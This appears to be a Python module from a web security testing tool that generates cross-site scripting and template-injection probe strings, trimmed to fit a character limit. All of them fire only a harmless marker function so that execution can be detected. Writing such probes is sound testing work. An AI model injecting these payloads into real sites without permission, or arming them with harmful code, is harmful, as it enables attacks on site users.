"""Texts that would act if a page took them for anything but text.

Each calls `xss7()` or makes an element, an attribute or an address with that word in it, so a reader of
the page finds what came of it, and a browser tells when it ran.
"""

MARK = "xss7"
# `{{…}}` evaluated by anybody would be this.
EVALUATED = "xss71337"
_ACTS = (
    "<script>xss7()</script>",
    '"><img src=x onerror=xss7()>',
    "'><svg/onload=xss7()>",
    "</script><script>xss7()</script>",
    "</textarea></title></style></select><xss7 onclick=xss7()>",
    "[xss7](javascript:xss7())",
    "<a href=javascript:xss7()>xss7</a>",
    '" autofocus onfocus=xss7() x="',
    "`${xss7()}`'-xss7()-'",
    "xss7{{7*191}}{%debug%}${7*191}",
    "-->\u2028<!--<iframe srcdoc=<script>xss7()</script>>",
    "@import url(//xss7.example/);",
)
# Where little fits.
_SHORT = ('"><xss7>', "<xss7>", "xss7")
ADDRESS = 'javascript:xss7()//"><img src=x onerror=xss7()>'


def markup(room: int | None, turn: int) -> str:
    """As much of all that as fits in so many characters; `turn` says which comes first."""
    if room is None or room >= len("".join(_ACTS)):
        return "".join(_turned(turn))
    fitting = [act for act in _turned(turn) if len(act) <= room]
    said = fitting[0] if fitting else next(act for act in _SHORT if len(act) <= room)
    for act in fitting[1:]:
        if len(said) + len(act) <= room:
            said += act
    return said


def address(room: int | None, turn: int) -> str:
    """What becomes a link must not be followed there."""
    return ADDRESS if room is None else ADDRESS[:room]


def _turned(turn: int) -> tuple[str, ...]:
    at = turn % len(_ACTS)
    return _ACTS[at:] + _ACTS[:at]
